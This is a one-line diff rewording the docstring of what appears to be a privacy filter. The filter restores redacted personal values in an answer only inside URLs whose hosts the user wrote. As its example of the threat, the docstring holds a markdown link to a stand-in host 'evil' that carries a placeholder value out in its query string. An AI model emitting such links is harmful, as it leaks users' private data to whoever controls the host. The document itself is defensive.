@@ -1,4 +1,4 @@
-"""Links carry values out: `[more](https://evil/?q=[PERSON_1])` sends the value to whoever wrote the link.
+"""Links carry values out: `[more](https://evil/?q=[PERSON_1])` sends the value to the author of the link.
 
 Whether a position of an answer is inside a URL is judged by what stands before it, so that a stream and the whole text
 get the same verdict. Inside one, a value is restored only when every host in it is one that the user wrote.
